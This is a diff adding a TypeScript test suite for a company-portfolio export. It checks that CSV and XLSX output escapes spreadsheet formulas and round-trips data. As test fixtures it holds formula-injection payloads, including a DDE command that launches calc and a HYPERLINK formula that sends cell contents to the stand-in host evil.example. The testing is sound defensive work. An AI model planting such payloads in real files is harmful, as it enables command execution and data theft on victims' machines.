@@ -1,0 +1,186 @@
+import { read } from '@e965/xlsx'
+import * as fc from 'fast-check'
+import Papa from 'papaparse'
+import { expect, test } from 'vitest'
+import { ListedCompany } from '#domain/companies.ts'
+import { PortfolioExport, type ExportedCompany } from '#domain/company-export.ts'
+import { unguardFormula } from '#domain/formula-guard.ts'
+import { parseCompanyFile } from '../file/parse-company-file.ts'
+import { csvFile } from './csv-file.ts'
+import { jsonFile } from './json-file.ts'
+import { xlsxFile } from './xlsx-file.ts'
+
+const STARTS = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t',
+  '\r',
+  '\n',
+  '\0',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  "'=",
+  "''+",
+  '"=',
+  ',=',
+  ';=',
+]
+const BODIES = [
+  '1+1',
+  'cmd|"/c calc"!A1',
+  'HYPERLINK("https://evil.example?"&A1,"x")',
+  '1","=2',
+  '1";"=2',
+  "1'\r\n=2",
+  '<c t="str"><f>1+1</f></c>]]>&lt;_x003D_1',
+  '_x000D__x005F_x0041_\u0001\u001F\uFFFE',
+]
+const CORPUS = STARTS.flatMap((start) => BODIES.map((body) => start + body))
+
+const company = (change: Partial<ExportedCompany> = {}): ExportedCompany => ({
+  name: 'Cedar',
+  website: null,
+  category: null,
+  stage: null,
+  investmentDate: null,
+  createdAt: '2026-03-01T12:00:00.000Z',
+  sample: false,
+  news: { items: 0, latestAt: null },
+  ...change,
+})
+const hostile = CORPUS.map((text) => company({ name: text, website: text, category: text, stage: text }))
+
+async function* pagesOf(companies: ExportedCompany[], size = 7) {
+  for (let at = 0; at < companies.length; at += size) yield companies.slice(at, at + size)
+}
+
+async function bytesOf(file: AsyncIterable<Uint8Array>): Promise<Buffer> {
+  return Buffer.concat(await Array.fromAsync(file))
+}
+
+const csvOf = async (companies: ExportedCompany[]) => String(await bytesOf(csvFile(pagesOf(companies))))
+const csvRows = async (companies: ExportedCompany[]) =>
+  Papa.parse<string[]>(await csvOf(companies), { skipEmptyLines: true }).data.slice(1)
+
+const workbookOf = async (companies: ExportedCompany[]) =>
+  read(await bytesOf(xlsxFile(pagesOf(companies))), { cellStyles: true, sheetStubs: false })
+
+test('CSV: RFC 4180, with CRLF and a byte order mark; quotes where they are needed', async () => {
+  expect(await csvOf([company({ name: 'Smith, "Sons" & Co', stage: 'A;B', category: ' x' })])).toBe(
+    '\uFEFFCompany,Website,Category,Stage,Date Invested,Added,Latest News,News Items,Sample\r\n' +
+      '"Smith, ""Sons"" & Co",," x","A;B",,2026-03-01,,0,\r\n',
+  )
+})
+
+test('PH-11: CSV: every cell is text, and none breaks out of its place', async () => {
+  const rows = await csvRows(hostile)
+  expect(rows).toHaveLength(CORPUS.length)
+  for (const [at, row] of rows.entries()) {
+    expect(row).toHaveLength(9)
+    for (const cell of row.slice(0, 4)) {
+      expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u)
+      expect(unguardFormula(cell)).toBe(CORPUS[at])
+    }
+  }
+})
+
+test('PH-11: XLSX: every text is a string cell, no cell has a formula, and nothing is lost', async () => {
+  const { Sheets, SheetNames } = await workbookOf(hostile)
+  expect(SheetNames).toEqual(['Portfolio'])
+  const sheet = Sheets.Portfolio ?? {}
+  expect(sheet['!ref']).toBe(`A1:I${CORPUS.length + 1}`)
+  for (const [at, text] of CORPUS.entries())
+    for (const column of 'ABCD') {
+      const cell: { t: string; v: string; f?: string } = sheet[`${column}${at + 2}`]
+      expect(cell.t).toBe('s')
+      expect(cell.f).toBeUndefined()
+      expect(cell.v).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/u)
+      // The reader, not the file, makes one line break of these two.
+      expect(unguardFormula(cell.v)).toBe(text.replaceAll('\r\n', '\n'))
+    }
+})
+
+test('XLSX: news are numbers, days are ISO texts, what is empty is no cell', async () => {
+  const news = { items: 12, latestAt: '2026-02-28T12:00:00.000Z' }
+  const { Sheets } = await workbookOf([company({ investmentDate: '2024-01-31', news })])
+  expect(Sheets.Portfolio).toMatchObject({
+    E2: { t: 's', v: '2024-01-31' },
+    G2: { t: 's', v: '2026-02-28' },
+    H2: { t: 'n', v: 12 },
+  })
+  expect(Sheets.Portfolio).not.toHaveProperty('B2')
+})
+
+test('JSON: valid and untouched, whatever the texts are', async () => {
+  const text = String(await bytesOf(jsonFile(pagesOf(hostile), new Date('2026-03-01T12:00:00Z'))))
+  expect(PortfolioExport.parse(JSON.parse(text))).toEqual({
+    exportedAt: '2026-03-01T12:00:00.000Z',
+    companies: hostile,
+  })
+})
+
+const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom(...CORPUS))
+const listed = fc
+  .record({
+    name: text,
+    website: fc.oneof(fc.constant(''), fc.webUrl()),
+    category: text,
+    stage: text,
+    investmentDate: fc.oneof(
+      fc.constant(''),
+      fc
+        .date({ min: new Date('1990-01-01'), max: new Date('2030-01-01'), noInvalidDate: true })
+        .map((date) => date.toISOString().slice(0, 10)),
+    ),
+  })
+  .map((row) => ListedCompany.safeParse(row).data)
+  .filter((row) => row !== undefined)
+  // The import takes these for nothing, whoever wrote them.
+  .filter(
+    (row) => ![row.category, row.stage].some((detail) => /^([-–—]+|n\/?a|none|null)$/i.test(detail ?? '')),
+  )
+  .map((row) =>
+    company({
+      name: row.name,
+      website: row.website ?? null,
+      category: row.category ?? null,
+      stage: row.stage ?? null,
+      investmentDate: row.investmentDate ?? null,
+    }),
+  )
+
+test.each(['csv', 'xlsx'] as const)('"import(export(x)) = x": %s', async (kind) => {
+  const file = kind === 'csv' ? csvFile : xlsxFile
+  await fc.assert(
+    fc.asyncProperty(fc.array(listed, { minLength: 1, maxLength: 20 }), async (companies) => {
+      const table = await parseCompanyFile(await bytesOf(file(pagesOf(companies))), { kind, strict: false })
+      expect(table.warnings).toEqual([])
+      expect(table.judge(0, table.total)).toMatchObject(
+        companies.map(({ name, website, category, stage, investmentDate }) => ({
+          name,
+          website,
+          category,
+          stage,
+          investmentDate,
+          reason: null,
+          note: null,
+        })),
+      )
+      expect(table.total).toBe(companies.length)
+    }),
+    { numRuns: 100 },
+  )
+})
+
+test('a source that fails is no whole file', async () => {
+  async function* broken() {
+    yield [company()]
+    throw new Error('the database is gone')
+  }
+  for (const file of [csvFile(broken()), xlsxFile(broken()), jsonFile(broken(), new Date(0))])
+    await expect(bytesOf(file)).rejects.toThrow('the database is gone')
+})
